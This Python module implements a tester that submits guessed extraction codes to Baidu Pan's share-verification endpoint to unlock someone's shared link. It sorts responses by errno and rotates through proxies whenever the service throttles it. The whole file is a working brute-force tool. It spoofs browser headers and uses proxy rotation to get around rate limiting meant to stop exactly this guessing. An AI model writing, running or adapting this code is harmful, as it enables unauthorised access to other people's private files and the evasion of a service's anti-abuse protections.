"""
Share Link Tester Module

Tries extraction codes against the share-verification endpoint of a
shared link. Throttling answers trigger a proxy switch; transport
failures surface as exceptions for the trial executor to absorb.
"""

import itertools
import logging
import threading
import time
from typing import Any, Dict, Iterable, List, Optional

import requests

from ..core.errors import TesterError
from ..core.interfaces import PasswordTester
from ..core.outcomes import RawResult

logger = logging.getLogger(__name__)

DEFAULT_VERIFY_URL = "https://pan.baidu.com/share/verify"
SHARE_URL_TEMPLATE = "https://pan.baidu.com/s/1{surl}"

DEFAULT_HEADERS = {
    "User-Agent": (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Chrome/120.0 Safari/537.36"
    ),
    "Content-Type": "application/x-www-form-urlencoded; charset=UTF-8",
    "X-Requested-With": "XMLHttpRequest",
}


def compose_share_message(surl: str, code: str) -> str:
    """Human-readable line reporting the code of a share link."""
    return f"{SHARE_URL_TEMPLATE.format(surl=surl)} extraction code: {code}"


class HttpShareLinkTester(PasswordTester):
    """Tests extraction codes over HTTP with a shared ``requests.Session``."""

    def __init__(
        self,
        surl: str,
        verify_url: str = DEFAULT_VERIFY_URL,
        timeout_seconds: float = 10.0,
        success_errnos: Iterable[int] = (0,),
        wrong_code_errnos: Iterable[int] = (-9,),
        throttled_errnos: Iterable[int] = (-62,),
        proxies: Optional[List[str]] = None,
        headers: Optional[Dict[str, str]] = None,
        session: Optional[requests.Session] = None,
    ):
        """
        Initialize the tester.

        Args:
            surl: Share identifier of the link (the part after ``/s/1``)
            verify_url: Share-verification endpoint
            timeout_seconds: Per-request timeout
            success_errnos: ``errno`` values meaning the code was accepted
            wrong_code_errnos: ``errno`` values meaning the code is wrong
            throttled_errnos: ``errno`` values meaning this route is throttled
            proxies: Proxy URLs to rotate through when throttled
            headers: Extra request headers
            session: Session to use instead of a new one
        """
        if not surl:
            raise TesterError("surl must be set")

        self.surl = surl
        self.verify_url = verify_url
        self.timeout_seconds = float(timeout_seconds)
        self.success_errnos = set(int(e) for e in success_errnos)
        self.wrong_code_errnos = set(int(e) for e in wrong_code_errnos)
        self.throttled_errnos = set(int(e) for e in throttled_errnos)
        self.proxies = list(proxies or [])

        self.session = session or requests.Session()
        self.session.headers.update(DEFAULT_HEADERS)
        if headers:
            self.session.headers.update(headers)
        self.session.headers.setdefault("Referer", SHARE_URL_TEMPLATE.format(surl=surl))

        self._proxy_cycle = itertools.cycle(self.proxies) if self.proxies else None
        self._proxy_lock = threading.Lock()
        self._current_proxy: Optional[str] = None
        self._disposed = threading.Event()

    # ------------------------------------------------------------- interface

    def test(self, candidate: str) -> RawResult:
        if self._disposed.is_set():
            raise TesterError("Tester has been disposed")

        params = {"surl": self.surl, "t": int(time.time() * 1000), "channel": "chunlei", "web": 1}
        data = {"pwd": candidate, "vcode": "", "vcode_str": ""}
        with self._proxy_lock:
            proxy = self._current_proxy
        proxies = {"http": proxy, "https": proxy} if proxy else None

        response = self.session.post(
            self.verify_url,
            params=params,
            data=data,
            proxies=proxies,
            timeout=self.timeout_seconds,
        )
        return self._parse_response(candidate, response)

    def is_disposed(self) -> bool:
        return self._disposed.is_set()

    def reconfigure(self, payload: Any) -> None:
        """Switch to the proxy in ``payload``; None goes back to a direct connection."""
        proxy = str(payload) if payload else None
        with self._proxy_lock:
            self._current_proxy = proxy
        logger.info(f"[TESTER] now using proxy {proxy or 'none (direct)'}")

    def dispose(self) -> None:
        if self._disposed.is_set():
            return
        self._disposed.set()
        self.session.close()
        logger.info("[TESTER] disposed")

    # --------------------------------------------------------------- helpers

    @property
    def current_proxy(self) -> Optional[str]:
        with self._proxy_lock:
            return self._current_proxy

    def next_proxy(self) -> Optional[str]:
        if self._proxy_cycle is None:
            return None
        with self._proxy_lock:
            return next(self._proxy_cycle)

    def _parse_response(self, candidate: str, response: requests.Response) -> RawResult:
        try:
            body = response.json()
            errno = int(body.get("errno"))
        except (ValueError, TypeError, AttributeError):
            logger.debug(f"[TESTER] unreadable response (HTTP {response.status_code}) for {candidate!r}")
            return RawResult(
                candidate=candidate,
                transport_error=True,
                detail=f"http_status={response.status_code}",
            )

        detail = f"errno={errno}"
        if errno in self.success_errnos:
            return RawResult(candidate=candidate, accepted=True, detail=detail)
        if errno in self.wrong_code_errnos:
            return RawResult(candidate=candidate, detail=detail)
        if errno in self.throttled_errnos:
            proxy = self.next_proxy()
            if proxy is None:
                logger.debug(f"[TESTER] throttled with no proxies configured ({detail})")
                return RawResult(candidate=candidate, transport_error=True, detail=detail)
            return RawResult(
                candidate=candidate,
                needs_reconfiguration=True,
                reconfiguration=proxy,
                detail=detail,
            )

        logger.debug(f"[TESTER] unexpected {detail} for {candidate!r}")
        return RawResult(candidate=candidate, transport_error=True, detail=detail)


def create_share_link_tester(tester_config: Dict[str, Any]) -> HttpShareLinkTester:
    """
    Factory function to create an HttpShareLinkTester from its config section.

    Args:
        tester_config: Output of ``ConfigLoader.get_tester_config()``

    Returns:
        HttpShareLinkTester: Configured tester
    """
    return HttpShareLinkTester(
        surl=tester_config.get("surl") or "",
        verify_url=tester_config.get("verify_url") or DEFAULT_VERIFY_URL,
        timeout_seconds=float(tester_config.get("timeout_seconds", 10)),
        success_errnos=tester_config.get("success_errnos") or (0,),
        wrong_code_errnos=tester_config.get("wrong_code_errnos") or (-9,),
        throttled_errnos=tester_config.get("throttled_errnos") or (-62,),
        proxies=tester_config.get("proxies") or [],
        headers=tester_config.get("headers") or None,
    )
